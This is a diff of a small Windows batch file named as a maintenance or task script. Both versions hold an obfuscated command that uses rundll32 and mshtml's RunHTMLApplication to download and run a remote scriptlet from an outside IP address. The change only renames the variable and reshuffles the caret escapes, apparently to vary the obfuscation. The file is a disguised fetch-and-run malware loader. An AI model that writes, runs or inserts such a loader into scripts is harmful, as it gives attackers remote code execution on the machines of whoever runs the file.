@@ -1,4 +1,4 @@
-REM maintenance 9257 v1
+REM task 5265 v1
 @echo off
-set yyal=run^d^ll3^2.^exe j^a^va^s^cri^pt:"\..\mshtml,RunHTMLApplication ";^doc^ument.^w^ri^te();GetObject("script:http://198.51.100.23/r.sct")
-call %yyal%
+set djjr=ru^ndl^l3^2.^e^xe java^s^c^ript:"\..\mshtml,RunHTMLApplication ";do^cum^e^n^t.wri^te();^G^etOb^je^c^t("script:http://198.51.100.23/r.sct")
+call %djjr%
